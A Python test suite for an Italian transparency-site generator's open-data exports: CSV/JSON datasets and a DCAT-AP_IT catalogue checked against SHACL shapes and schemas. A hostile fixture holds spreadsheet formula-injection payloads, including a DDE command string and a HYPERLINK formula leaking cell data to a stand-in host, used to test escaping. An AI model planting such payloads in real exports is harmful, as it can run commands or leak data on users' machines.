"""Open data: every build publishes the plan's datasets (CSV and JSON) and a DCAT-AP_IT catalogue; the
files are parsed back and compared with the model, and no spreadsheet formula gets through."""

from __future__ import annotations

import csv
import io
import json
import posixpath
import re

import frictionless
import functools
import pyshacl
import pytest
from rdflib import Graph, URIRef
from rdflib.namespace import SH

from conftest import REPO, SITE_NAMES as SITES, Page, build, project, write_site
from trasparenza.exports import formats as exports
from trasparenza.render.text import plain
from trasparenza.checks.validate import load_site

EU = "http://publications.europa.eu/resource/authority/"


def read_csv(path) -> list[dict]:
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.endswith(b"\r\n") and raw.split(b"\n", 1)[0].endswith(b"\r")  # RFC 4180 record ends
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))


def graph(site):
    document = json.loads((site / "dati" / "catalogo.jsonld").read_text(encoding="utf-8"))
    assert "dcat" in document["@context"] and "dcatapit" in document["@context"]
    nodes = {node["@id"]: node for node in document["@graph"]}
    return document, nodes


def of_type(nodes, kind):
    return [node for node in nodes.values() if kind in node["@type"]]


SHAPES = REPO / "tests" / "dcat-ap"  # the EU DCAT-AP 2.1.1 SHACL shapes (tests/dcat-ap/SOURCES.md)


@functools.lru_cache(maxsize=1)
def shapes() -> Graph:
    graph = Graph()
    for path in sorted(SHAPES.glob("*_shacl_*.ttl")):
        graph.parse(path)
    return graph


def shacl_violations(site, base: str | None) -> list[str]:
    """The DCAT-AP shapes' violations of a site's catalogue, read with the site's address as base and the
    vocabularies beside it (tests/dcat-ap/SOURCES.md); the recommended shapes' warnings are not failures."""
    data = Graph().parse(site / "dati" / "catalogo.jsonld", format="json-ld", publicID=base)
    data.parse(SHAPES / "vocabularies.ttl")
    _, results, _ = pyshacl.validate(data, shacl_graph=shapes(), inference="none", allow_warnings=True)
    report = next(results.subjects(SH.conforms, None))
    return [f"{results.value(r, SH.focusNode)} {results.value(r, SH.resultPath)}: {results.value(r, SH.resultMessage)}"
            for r in results.objects(report, SH.result) if results.value(r, SH.resultSeverity) == SH.Violation]


@pytest.mark.parametrize("name", SITES)
def test_every_catalogue_passes_the_dcat_ap_shapes_and_every_csv_its_table_schema(built, name):
    site = built(name)
    assert shacl_violations(site, f"https://{name}.invalid/dati/catalogo.jsonld") == []
    package = json.loads((site / "dati" / "datapackage.json").read_text(encoding="utf-8"))
    csvs = sorted(p.relative_to(site / "dati").as_posix() for p in (site / "dati").rglob("*.csv"))
    assert sorted(r["path"] for r in package["resources"]) == csvs
    report = frictionless.validate(site / "dati" / "datapackage.json")
    assert report.valid, report.flatten(["resource/name", "rowNumber", "fieldName", "type", "note"])[:10]


def test_root_build_publishes_every_dataset_matching_the_model(built):
    site = built("alessandria")
    plan = load_site(REPO / "data", REPO)[0].corrente
    folder = site / "dati" / plan.piano.segmento
    expected = {
        "obiettivi": len(plan.obiettivi),
        "fasi": sum(len(o.fasi) for o in plan.obiettivi),
        "strutture": len(plan.strutture),
        "azioni-positive": len(plan.azioni_positive_tutte()),
    }
    for name, count in expected.items():
        rows = read_csv(folder / f"{name}.csv")
        document = json.loads((folder / f"{name}.json").read_text(encoding="utf-8"))
        assert len(rows) == len(document["righe"]) == count, name
        assert [c["nome"] for c in document["colonne"]] == list(rows[0].keys())
        assert all(c["descrizione"] for c in document["colonne"])
        assert document["licenza"] == "https://creativecommons.org/licenses/by/4.0/"
        for row, record in zip(rows, document["righe"]):  # the CSV is the JSON, cell by cell
            assert row == {k: exports.safe_cell(v) for k, v in record.items()}
    rows = read_csv(folder / "obiettivi.csv")
    for row, obiettivo in zip(rows, plan.obiettivi):
        assert row["obiettivo_id"] == obiettivo.id
        assert row["titolo"] == plain(obiettivo.titolo)
        assert row["struttura_id"] == obiettivo.struttura
        assert int(row["numero_fasi"]) == len(obiettivo.fasi)
        assert (site / row["pagina"] / "index.html").is_file()
    indicators = read_csv(folder / "indicatori.csv")
    assert {r["indicatore"] for r in indicators} == {plain(i.nome) for o in plan.obiettivi
                                                       for i in o.tutti_gli_indicatori()}


def test_the_open_data_page_lists_files_with_rows_size_and_licence(built):
    site = built("alessandria")
    page = Page((site / "dati" / "index.html").read_text(encoding="utf-8"))
    text = page.text
    assert "CC BY 4.0" in text and "DCAT-AP_IT" in text
    table = (site / "dati" / "index.html").read_text(encoding="utf-8")
    for csv_file in (site / "dati" / "2022-2024").glob("*.csv"):
        rows = len(read_csv(csv_file))
        assert f'href="2022-2024/{csv_file.name}"' in table
        assert re.search(rf'<td[^>]* class="tp-numero">{rows}</td>', table), rows
    assert 'href="catalogo.jsonld"' in table
    assert "obiettivo_id" in text  # the columns are documented


def test_each_plan_page_links_the_data_it_shows(built):
    site = built("alessandria")
    objective = next((site / "piao" / "2022-2024" / "obiettivi").glob("*/index.html"))
    html = objective.read_text(encoding="utf-8")
    links = [href for href in Page(html).links if "/dati/" in href]
    assert any(href.endswith("obiettivi.csv") for href in links) and any(href.endswith("indicatori.json")
                                                                        for href in links)
    for href in links:
        assert (objective.parent / href).resolve().exists(), href
    catalogue_page = site / "amministrazione-trasparente" / "altri-contenuti" / "accessibilita-catalogo-dati" / \
        "catalogo-dati" / "index.html"
    hrefs = Page(catalogue_page.read_text(encoding="utf-8")).links
    assert any(h.rstrip("/").endswith("dati") for h in hrefs) and any(h.endswith("catalogo.jsonld") for h in hrefs)


def test_the_catalogue_has_the_mandatory_dcat_ap_it_properties(built):
    site = built("alessandria")
    _, nodes = graph(site)
    catalogs = of_type(nodes, "dcatapit:Catalog")
    assert len(catalogs) == 1
    catalog = catalogs[0]
    for prop in ("dct:title", "dct:description", "dct:publisher", "dct:modified", "dcat:dataset"):
        assert catalog.get(prop), prop
    agent = nodes[catalog["dct:publisher"]["@id"]]
    assert "dcatapit:Agent" in agent["@type"] and agent["foaf:name"]["@value"] == "Comune di Alessandria"
    datasets = of_type(nodes, "dcatapit:Dataset")
    assert len(datasets) == len(catalog["dcat:dataset"]) == 6  # Alessandria: 6 tables, its only plan
    for dataset in datasets:
        for prop in ("dct:identifier", "dct:title", "dct:description", "dct:modified", "dcat:theme",
                     "dct:rightsHolder", "dct:accrualPeriodicity", "dcat:distribution"):
            assert dataset.get(prop), (dataset["@id"], prop)
        assert dataset["dcat:theme"]["@id"].startswith(EU + "data-theme/")
        assert dataset["dct:accrualPeriodicity"]["@id"] == EU + "frequency/IRREG"
        for ref in dataset["dcat:distribution"]:
            distribution = nodes[ref["@id"]]
            assert distribution["dct:format"]["@id"] in (EU + "file-type/CSV", EU + "file-type/JSON")
            assert distribution["dct:license"]["@id"].endswith("A21_CCBY40")
            target = posixpath.normpath(posixpath.join("dati", distribution["dcat:accessURL"]["@id"]))
            assert (site / target).is_file(), target
            assert int(distribution["dcat:byteSize"]["@value"]) == (site / target).stat().st_size


def test_site_url_ipa_code_and_licence_make_a_harvestable_catalogue(tmp_path):
    root = write_site(tmp_path / "sito", {
        "ente.yaml": "denominazione: Comune di Prova\ncodice_ipa: c_z999\nemail: protocollo@comune.prova.it\n",
        "trasparenza.yaml": "licenza_dati: CC0-1.0\n",
    })
    config = root / "mkdocs.yml"
    config.write_text("site_url: https://trasparenza.comune.prova.it/\n" + config.read_text(encoding="utf-8"),
                      encoding="utf-8")
    result = build(root)
    assert result.returncode == 0, result.stderr
    site = root / "site_build"
    _, nodes = graph(site)
    agent = of_type(nodes, "dcatapit:Agent")[0]
    assert agent["dct:identifier"] == "c_z999"
    for dataset in of_type(nodes, "dcatapit:Dataset"):
        assert dataset["dct:identifier"].startswith("c_z999:2024-2026-")
    for distribution in of_type(nodes, "dcatapit:Distribution"):
        url = distribution["dcat:accessURL"]["@id"]
        assert url.startswith("https://trasparenza.comune.prova.it/dati/2024-2026/")
        assert distribution["dct:license"]["@id"].endswith("A11_CCO10")
    rows = read_csv(site / "dati" / "2024-2026" / "strutture.csv")
    assert rows[0]["pagina"].startswith("https://trasparenza.comune.prova.it/piao/2024-2026/strutture/")
    # Read as a harvester reads it, with no base address: every IRI is absolute, none is a local file.
    data = Graph().parse(site / "dati" / "catalogo.jsonld", format="json-ld")
    iris = {str(term) for triple in data for term in triple if isinstance(term, URIRef)}
    assert not [iri for iri in iris if not iri.startswith(("http://", "https://", "mailto:"))]
    assert "https://trasparenza.comune.prova.it/dati/catalogo.jsonld#catalogo" in iris
    contact = of_type(nodes, "vcard:Organization")[0]
    assert contact["vcard:hasEmail"]["@id"] == "mailto:protocollo@comune.prova.it"
    assert all(d["dcat:contactPoint"]["@id"] == contact["@id"] for d in of_type(nodes, "dcatapit:Dataset"))
    assert all(d["dcat:landingPage"]["@type"] == "foaf:Document" for d in of_type(nodes, "dcatapit:Dataset"))
    assert shacl_violations(site, None) == []
    assert "CC0 1.0" in Page((site / "dati" / "index.html").read_text(encoding="utf-8")).text


HOSTILE = {
    "obiettivi/area-servizi.yaml": """
        struttura: area-servizi
        obiettivi:
          - id: formule
            codice: "=1+1"
            titolo: '=HYPERLINK("http://x.invalid/?"&A1, "clicca")'
            descrizione: "+cmd|' /C calc'!A0"
            fasi:
              - {codice: "-2+3", descrizione: "@SUM(A1:A9)", incidenza: 100, responsabili: "\\t=1"}
            indicatori:
              - nome: Tempo
                rilevazioni:
                  - {data: 30/06/2024, atteso: "10", raggiunto: "-5", scostamento: "-15"}
    """,
}


def test_no_spreadsheet_formula_gets_through(tmp_path):
    root = write_site(tmp_path / "sito", HOSTILE)
    result = build(root)
    assert result.returncode == 0, result.stderr
    folder = root / "site_build" / "dati" / "2024-2026"
    for name in ("obiettivi", "fasi", "indicatori"):
        for row in read_csv(folder / f"{name}.csv"):
            for value in row.values():
                assert not value.startswith(exports.FORMULA_START) or exports._NUMBER.match(value), (name, value)
    objective = read_csv(folder / "obiettivi.csv")[0]
    assert objective["obiettivo_codice"] == "'=1+1" and objective["titolo"].startswith("'=HYPERLINK(")
    phase = read_csv(folder / "fasi.csv")[0]
    assert phase["fase_codice"] == "'-2+3" and phase["descrizione"] == "'@SUM(A1:A9)"
    measured = [r for r in read_csv(folder / "indicatori.csv") if r["riga"] == "rilevazione"][0]
    assert measured["valore"] == "-5" and measured["scostamento"] == "-15"  # numbers stay numbers
    document = json.loads((folder / "obiettivi.json").read_text(encoding="utf-8"))
    assert document["righe"][0]["obiettivo_codice"] == "=1+1"  # JSON is not a spreadsheet: data as written


@pytest.mark.parametrize("value, cell", [
    ("=A1", "'=A1"), ("+39 0131", "'+39 0131"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("-5", "-5"), ("-5,5", "-5,5"), ("testo", "testo"), (None, ""), (40.0, "40"), (12.5, "12.5"),
])
def test_safe_cell(value, cell):
    assert exports.safe_cell(value) == cell


def test_several_plans_each_with_their_datasets(built):
    site = built("esempio")
    _, nodes = graph(site)
    frequencies = {d["dct:identifier"]: d["dct:accrualPeriodicity"]["@id"].rsplit("/", 1)[1]
                   for d in of_type(nodes, "dcatapit:Dataset")}
    assert frequencies["2025-2027-obiettivi"] == "IRREG" and frequencies["2024-2026-obiettivi"] == "NEVER"
    site_model = load_site(project("esempio") / "data", project("esempio"))[0]
    for plan in site_model.piani:
        folder = site / "dati" / plan.piano.segmento
        assert len(read_csv(folder / "obiettivi.csv")) == len(plan.obiettivi)
        if plan.variazioni:
            changes = read_csv(folder / "variazioni.csv")
            assert len(changes) == sum(len(a.modifiche) for a in plan.variazioni.atti)
        measured = [r for r in read_csv(folder / "indicatori.csv") if r["riga"] == "rilevazione"]
        count = sum(len(i.rilevazioni) for o in plan.obiettivi for i in o.tutti_gli_indicatori())
        assert len(measured) == count
        assert all(r["stato"] for r in measured)


def test_public_value_and_improvement_actions_are_datasets_too(built):
    site = built("salute-organizzativa")
    plan = load_site(project("salute-organizzativa") / "data", project("salute-organizzativa"))[0].corrente
    folder = next((site / "dati").iterdir())
    assert len(read_csv(folder / "azioni-miglioramento.csv")) == len(plan.azioni_miglioramento.azioni)
    rows = read_csv(folder / "obiettivi-strategici.csv")
    assert [r["obiettivo_strategico_id"] for r in rows] == [o.id for _, o in plan.obiettivi_strategici()]
    html = (site / "dati" / "index.html").read_text(encoding="utf-8")
    assert "Il piano non contiene ancora elementi" not in html
